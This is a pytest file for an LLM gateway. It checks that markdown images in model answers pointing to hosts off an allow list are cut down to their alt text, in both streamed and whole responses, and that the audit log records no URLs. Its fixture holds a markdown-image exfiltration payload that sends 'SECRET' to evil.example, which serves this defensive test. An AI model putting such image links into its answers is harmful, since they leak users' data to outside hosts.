"""`agents.links` end to end: the official openai SDK (chat, streamed and not) and anthropic SDK
(streamed) through mitmdump to fake upstreams. An answer's image to a host off the list comes back
as its text alone, however its deltas cut it; a link to an allowed host comes back byte for byte;
the audit counts the links reduced (`links.redacted`), never a URL. No answer guardrail is set:
`agents.links` alone reads the answers."""

from __future__ import annotations

import pytest
from tests.support.answers import answered_by, pieces
from tests.support.canned import by_model
from tests.support.fake_upstream import Received, Reply
from tests.support.streams import sse

KEY = "tg-agents-links-0001"
EVIL = "![x](https://evil.example/p?d=SECRET)"
KEPT = "[the docs](https://docs.example.com/guide?page=2#links)"
TEXT = f"Your balance is shown here: {EVIL} See {KEPT} for more."
EXPECTED = f"Your balance is shown here: x See {KEPT} for more."
USAGE = {"prompt_tokens": 20, "completion_tokens": 12, "total_tokens": 32}


def chat_answer(model: str) -> dict:
    message = {"role": "assistant", "content": TEXT, "refusal": None}
    choice = {"index": 0, "message": message, "logprobs": None, "finish_reason": "stop"}
    return {"id": "chatcmpl-l", "object": "chat.completion", "created": 1700000000, "model": model,
            "choices": [choice], "usage": USAGE}  # fmt: skip


def chat_stream(model: str) -> list[bytes]:
    head = {"id": "chatcmpl-l", "object": "chat.completion.chunk", "created": 1700000000, "model": model}

    def chunk(delta: dict, finish: str | None = None) -> bytes:
        return sse({**head, "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})

    events = [chunk({"role": "assistant", "content": ""})]
    events += [chunk({"content": p}) for p in pieces(TEXT, 4)]
    return [*events, chunk({}, "stop"), sse({**head, "choices": [], "usage": USAGE}), sse("[DONE]")]


def claude_stream() -> list[bytes]:
    message = {"id": "msg_l", "type": "message", "role": "assistant", "model": "claude-sonnet-4-5", "content": [],
               "stop_reason": None, "usage": {"input_tokens": 20, "output_tokens": 1}}  # fmt: skip
    block = {"type": "text", "text": ""}
    events = [
        sse({"type": "message_start", "message": message}, "message_start"),
        sse({"type": "content_block_start", "index": 0, "content_block": block}, "content_block_start"),
    ]
    events += [
        sse({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": p}},
            "content_block_delta")
        for p in pieces(TEXT, 3)
    ]  # fmt: skip
    events += [
        sse({"type": "content_block_stop", "index": 0}, "content_block_stop"),
        sse({"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 12}},
            "message_delta"),
        sse({"type": "message_stop"}, "message_stop"),
    ]  # fmt: skip
    return events


chat = by_model("/chat/completions", chat_answer, chat_stream)


def upstream(received: Received) -> Reply:
    if received.path.endswith("/v1/messages"):
        return Reply(200, headers={"content-type": "text/event-stream"}, chunks=claude_stream())
    return chat(received)


@pytest.fixture(scope="module")
def gw(start_gateway):
    return answered_by(
        start_gateway(
            lambda urls: {
                "providers": {
                    "openai": {"upstream": urls["openai"], "keys": ["sk-real-links-0001"]},
                    "anthropic": {"upstream": urls["anthropic"], "keys": ["sk-ant-real-links-0001"]},
                },
                "clients": [{"name": "agent", "keys": [KEY]}],
                "agents": {"links": {"allow": ["*.example.com"], "action": "redact"}},
            },
            providers=("openai", "anthropic"),
        ),
        upstream,
    )


CHAT = """
import openai
client = openai.OpenAI(api_key={key!r}, max_retries=0)
messages = [{{"role": "user", "content": "What is my balance?"}}]
if {stream!r}:
    text = ""
    for event in client.chat.completions.create(model="gpt-4o", messages=messages, stream=True):
        for choice in event.choices:
            text += choice.delta.content or ""
    report(text=text)
else:
    r = client.chat.completions.create(model="gpt-4o", messages=messages)
    report(text=r.choices[0].message.content, finish=r.choices[0].finish_reason)
"""

CLAUDE = """
import anthropic
client = anthropic.Anthropic(api_key={key!r}, max_retries=0)
text = ""
with client.messages.stream(model="claude-sonnet-4-5", max_tokens=100,
                            messages=[{{"role": "user", "content": "What is my balance?"}}]) as s:
    for piece in s.text_stream:
        text += piece
    final = s.get_final_message()
report(text=text, final=final.content[0].text, stop=final.stop_reason)
"""


def _recorded_without_a_url(gw) -> dict:
    record = gw.last_audit()
    assert record["answer_findings"] == {"links.redacted": 1}
    assert record["answer_redacted"] == 1
    audit = gw.audit_path.read_text()
    assert "evil.example" not in audit and "SECRET" not in audit and "docs.example.com" not in audit
    return record


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_an_openai_chat_answers_image_off_the_list_comes_back_as_its_text(gw, stream: bool) -> None:
    result = gw.run(CHAT.format(key=KEY, stream=stream))
    assert result["text"] == EXPECTED
    if not stream:
        assert result["finish"] == "stop"
    record = _recorded_without_a_url(gw)
    assert (record["status"], record["provider"]) == (200, "openai")


def test_an_anthropic_streamed_answers_image_off_the_list_comes_back_as_its_text(gw) -> None:
    result = gw.run(CLAUDE.format(key=KEY))
    assert result == {"text": EXPECTED, "final": EXPECTED, "stop": "end_turn"}
    record = _recorded_without_a_url(gw)
    assert (record["status"], record["provider"]) == (200, "anthropic")
